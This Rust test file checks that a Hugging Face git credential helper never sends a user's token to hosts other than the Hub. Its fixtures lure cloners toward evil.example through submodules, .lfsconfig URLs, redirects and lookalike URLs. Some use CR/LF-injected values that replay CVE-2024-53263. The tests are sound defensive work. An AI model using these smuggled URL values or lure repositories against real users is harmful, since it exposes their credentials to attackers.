//! Hosts that are not the Hub, however a repository names them, get nothing.

use crate::hub::{File, Repository};
use crate::rig::Git;
use crate::scene::{ALICE, Scene};

/// A repository of alice's that leads its cloner to another machine.
fn lure(scene: &mut Scene, files: &[File]) {
    scene.world.write_token(ALICE);
    // the most a user can get wrong: this helper for every host
    scene.ask_for_every_host();
    let repository = Repository::private("acme/lure", &["alice"]);
    scene.hub.publish(repository, files);
}

#[track_caller]
fn asked_in_vain(scene: &Scene) {
    let visits = scene.hub.visits();
    let asked: Vec<_> = visits.iter().filter(|visit| visit.host == "evil.example").collect();
    assert!(!asked.is_empty(), "nobody went there: the claim is empty");
    for visit in asked {
        assert_eq!(visit.shown, None, "{} {}", visit.method, visit.path);
    }
    // and the token did its work at home
    assert_eq!(scene.secrets_on("huggingface.co"), [ALICE]);
}

#[test]
#[ignore = "needs gnome-keyring; tests/run.sh installs it"]
fn a_submodule_on_a_second_host_gets_no_token() {
    Scene::each(|scene| {
        let url = "https://evil.example/acme/part".to_owned();
        let commit = "0123456789012345678901234567890123456789".to_owned();
        lure(scene, &[File::Submodule("part", url, commit)]);
        let url = "https://huggingface.co/acme/lure";
        scene.world.git(&["clone", "--quiet", "--recurse-submodules", url]).failed();
        asked_in_vain(scene);
    });
}

#[test]
#[ignore = "needs git-lfs and gnome-keyring; tests/run.sh installs them"]
fn an_lfs_url_on_a_second_host_gets_no_token() {
    Scene::each(|scene| {
        let config = "[lfs]\n\turl = https://evil.example/acme/lure.git/info/lfs\n".to_owned();
        let files = [File::Plain(".lfsconfig", config), File::Large("one.bin", vec![1; 1000])];
        lure(scene, &files);
        scene.clone("https://huggingface.co/acme/lure", "lure").failed();
        asked_in_vain(scene);
    });
}

#[test]
#[ignore = "needs git-lfs; tests/run.sh installs it"]
fn an_lfs_url_that_holds_lines_of_its_own_gets_no_token() {
    // CVE-2024-53263
    for end in [
        "%0Ahost=huggingface.co/",
        "%0D%0Ahost=huggingface.co/",
        "/x%0Ahost=huggingface.co%0A",
        "/%0Dhost=huggingface.co",
    ] {
        Scene::play(&Git::first(), None, |scene| {
            let config = format!("[lfs]\n\turl = \"https://evil.example{end}\"\n");
            lure(scene, &[File::Plain(".lfsconfig", config), File::Large("one.bin", vec![1; 1000])]);
            scene.clone("https://huggingface.co/acme/lure", "lure").failed().hides(ALICE);
            let visits = scene.hub.visits();
            let shown = visits.iter().filter(|visit| visit.host != "huggingface.co").any(|visit| visit.shown.is_some());
            assert!(!shown, "{end}: {visits:?}");
        });
    }
}

#[test]
#[ignore = "needs gnome-keyring; tests/run.sh installs it"]
fn a_second_host_gets_no_token_for_a_name_that_looks_like_the_hub() {
    Scene::each(|scene| {
        lure(scene, &[]);
        scene.clone("https://huggingface.co/acme/lure", "lure").succeeded();
        for url in [
            "https://huggingface.co@evil.example/acme/lure",
            "https://evil.example/https://huggingface.co/acme/lure",
            "https://evil.example/huggingface.co%0ahost=huggingface.co/lure",
            "https://evil.example%0ahost=huggingface.co/acme/lure",
            "https://evil.example%0d%0ahost=huggingface.co/acme/lure",
        ] {
            scene.clone(url, "strange").failed();
        }
        asked_in_vain(scene);
    });
}

#[test]
#[ignore = "needs gnome-keyring; tests/run.sh installs it"]
fn a_redirect_to_a_second_host_takes_no_token_along() {
    Scene::each(|scene| {
        lure(scene, &[]);
        let moved = Repository::moved("acme/moved", "https://evil.example/acme/moved");
        scene.hub.publish(moved, &[]);
        scene.clone("https://huggingface.co/acme/lure", "lure").succeeded();
        scene.clone("https://huggingface.co/acme/moved", "moved").failed();
        asked_in_vain(scene);
    });
}

#[test]
#[ignore = "needs git-lfs and gnome-keyring; tests/run.sh installs them"]
fn a_signed_url_that_ran_out_gets_no_token_and_git_lfs_does_not_loop() {
    Scene::each(|scene| {
        lure(scene, &[File::Large("one.bin", vec![1; 1000])]);
        // it asks eight times with growing pauses: as many as it likes, but not all the pauses
        let once = ["config", "--global", "lfs.transfer.maxretries", "1"];
        scene.world.git(&once).succeeded();
        scene.hub.expire_signatures();
        scene.clone("https://huggingface.co/acme/lure", "lure").failed();
        let visits = scene.hub.visits();
        let transfers: Vec<_> = visits.iter().filter(|visit| visit.host == "cdn-lfs.hf.co").collect();
        assert!(!transfers.is_empty(), "nobody went there: the claim is empty");
        assert!(transfers.len() < 20, "asked {} times", transfers.len());
        assert!(transfers.iter().all(|visit| visit.shown.is_none()), "{transfers:?}");
    });
}

#[test]
#[ignore = "needs gnome-keyring; tests/run.sh installs it"]
fn a_plain_store_helper_beside_ours_is_named_and_after_setup_holds_no_token() {
    Scene::each(|scene| {
        scene.world.write_token(ALICE);
        scene.world.write(".gitconfig", "");
        scene.world.set_system_config("[credential]\n\thelper = store\n");
        // the two lines of every tutorial
        let line = ["config", "--global", "credential.helper", "hf"];
        scene.world.git(&line).succeeded();
        let repository = Repository::private("acme/secret", &["alice"]);
        scene.hub.publish(repository, &[]);
        let told = scene.world.helper(&["status"], b"").out();
        assert!(told.contains("credential.helper (git's system configuration"), "{told}");
        scene.world.helper(&["setup"], b"").succeeded();
        scene.clone("https://huggingface.co/acme/secret", "secret").succeeded().says_nothing();
        scene.push("secret", "new.txt", "pushed").succeeded();
        assert_eq!(scene.secrets_on("huggingface.co"), [ALICE]);
        let kept = std::fs::read_to_string(scene.world.home().join(".git-credentials"));
        assert_eq!(kept.unwrap_or_default(), "", "the sibling keeps a token that is not git's");
    });
}
